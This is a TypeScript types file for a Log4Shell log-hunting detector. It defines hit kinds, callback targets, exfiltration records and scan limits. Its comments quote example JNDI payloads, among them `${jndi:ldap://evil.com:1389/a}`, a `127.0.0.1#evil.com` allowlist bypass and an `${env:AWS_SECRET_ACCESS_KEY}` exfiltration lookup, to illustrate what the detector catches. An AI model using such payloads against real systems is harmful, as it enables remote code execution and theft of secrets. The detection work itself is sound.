/** What a hit is evidence of. */
export type HitKind =
  /** A `${jndi:...}` lookup to a remote protocol: an exploitation attempt (CVE-2021-44228/45046). */
  | 'jndi'
  /** The CVE-2021-45105 recursion strings (`$${` escapes inside nested lookups). */
  | 'recursion'
  /** Lookups nested deeper than the detector resolves, or more work than a line may cost: evasion or a DoS string. */
  | 'nesting'
  /** What a lookup that ran leaves in logs: JNDI errors, javax.naming / com.sun.jndi exceptions, remote class loading. */
  | 'trace'
  /** A string or C2 address of the admin's indicator set. */
  | 'indicator'
  /** A running JVM connected to an LDAP/RMI/DNS port (file is /proc/PID, line 0). */
  | 'connection';

/** The kinds of exploitation traces, strongest first. */
export type TraceKind =
  /** Log4j's own "Error looking up JNDI resource [...]": a lookup ran. */
  | 'jndi-lookup-error'
  /** JndiLookup / JndiManager in a stack trace: a lookup ran. */
  | 'jndi-lookup-frame'
  /** A JNDI reference's factory loaded from a remote codebase, or refused by trustURLCodebase. */
  | 'remote-class-loading'
  /** "Infinite loop in property interpolation": a CVE-2021-45105 string was evaluated. */
  | 'recursion-error'
  /** A javax.naming network exception or a com.sun.jndi lookup frame: a JVM reached out over LDAP/RMI/DNS. */
  | 'naming-exception';

/** `high`: exploitation attempt or proof of a lookup; `low`: also seen in legitimate LDAP use. */
export type Confidence = 'high' | 'low';

/** Where an exploit string calls back to. */
export interface CallbackTarget {
  /** Lower-case, look-alikes folded: ldap, ldaps, rmi, dns, iiop, corba, nds, nis, http ... */
  protocol: string;
  /** The host as written after decoding (lower-case), `${...}` leftovers included. */
  host: string;
  port?: number;
  /** Everything after the authority (`/a`, `/Basic/Command/...`), `''` when none. */
  path: string;
  /**
   * The attacker's infrastructure to group by: the host without the `${...}` labels that carry
   * exfiltrated values, and after the `#` of the CVE-2021-45046 form.
   */
  callbackHost: string;
  /** `hash-host`: `127.0.0.1#evil.com`, the CVE-2021-45046 bypass of 2.15.0's host allowlist. */
  bypass?: 'hash-host';
}

/** A value the exploit string tries to send out (`${env:AWS_SECRET_ACCESS_KEY}` in the host name). */
export interface Exfiltration {
  /** The lookup as it stays unresolved: `${env:AWS_SECRET_ACCESS_KEY}`. */
  expression: string;
  /** The lookup's prefix (`env`, `sys`, `java`, `ctx` ...), `''` for a bare `${name}`. */
  lookup: string;
  /** What it reads: `AWS_SECRET_ACCESS_KEY`, `java.version`. */
  name: string;
  where: 'host' | 'port' | 'path' | 'protocol';
}

/** One finding of the detector on one line, without the file it came from. */
export interface LineHit {
  kind: HitKind;
  confidence: Confidence;
  /** The decoded and resolved form: `${jndi:ldap://evil.com:1389/a}`, or the trace's text. */
  decoded: string;
  target?: CallbackTarget;
  exfiltrates: Exfiltration[];
  trace?: TraceKind;
  /** Obfuscation families the line used: url, unicode-escape, hex-escape, octal-escape, html-escape, lookalike, lower, upper, default, date, base64, nested, case. */
  obfuscation: string[];
  cves: string[];
  indicator?: IndicatorRef;
  message: string;
}

/** One hit in a log file. */
export interface HuntHit extends LineHit {
  /** The file as given or found (the .gz itself for a compressed log). */
  file: string;
  /** 1-based line number (of the decompressed text). */
  line: number;
  /** The line's own timestamp, UTC ISO 8601; a timestamp without zone is read in the agent's zone. */
  timestamp?: string;
  /** The timestamp as written in the line. */
  timestampText?: string;
  /** The raw line (a window of it when longer than the report cap). */
  raw: string;
  /** true when `raw` is a window of a longer line. */
  rawTruncated: boolean;
}

/** An entry of the admin's indicator set that matched. */
export interface IndicatorRef {
  type: 'string' | 'c2' | 'hash' | 'filename';
  value: string;
  description?: string;
}

export type HuntErrorCode =
  | 'not-found'
  | 'unreadable'
  | 'corrupt-compressed'
  | 'decompressed-too-large'
  | 'unsupported-compression'
  | 'too-many-files'
  /** More hits than a hunt sends: counted, not sent. */
  | 'truncated';

/** A file or directory the hunt could not read completely. */
export interface HuntError {
  path: string;
  code: HuntErrorCode;
  error: string;
}

export interface HuntSummary {
  files: number;
  /** Files skipped because nothing in them was written after `since`. */
  filesSkippedOld: number;
  /** Files skipped because they hold binary data, not text. */
  filesSkippedBinary: number;
  /** Bytes of text read (decompressed). */
  bytes: number;
  lines: number;
  hits: number;
  errors: number;
  startedAt: string;
  finishedAt: string;
  durationMs: number;
}

export interface HuntLimits {
  /** Longer lines are analysed in windows of this many bytes (overlapping). */
  maxLineBytes: number;
  /** A compressed log stops (with an error) after this many decompressed bytes. */
  maxDecompressedBytes: number;
  /** A walk stops (with an error) after this many files. */
  maxFiles: number;
  /** Characters of a line kept in a hit's `raw`. */
  maxRawChars: number;
}

export const DEFAULT_HUNT_LIMITS: HuntLimits = {
  maxLineBytes: 1024 * 1024,
  maxDecompressedBytes: 8 * 1024 ** 3,
  maxFiles: 1_000_000,
  maxRawChars: 4096,
};
